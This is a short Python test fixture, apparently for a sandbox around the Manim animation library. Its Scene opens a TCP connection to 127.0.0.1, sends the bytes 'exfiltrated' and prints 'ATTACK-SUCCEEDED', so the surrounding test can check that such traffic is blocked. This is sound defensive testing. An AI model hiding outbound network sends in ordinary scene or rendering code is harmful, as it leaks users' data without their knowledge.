"""Open a TCP connection (the test listens on 127.0.0.1 and checks nothing arrives)."""
import socket  # ATTACK
from manim import *


class SocketConnect(Scene):
    def construct(self):
        conn = socket.create_connection(("127.0.0.1", @PORT@), timeout=5)  # ATTACK
        conn.sendall(b"exfiltrated")
        print("ATTACK-SUCCEEDED")
        self.add(Dot())
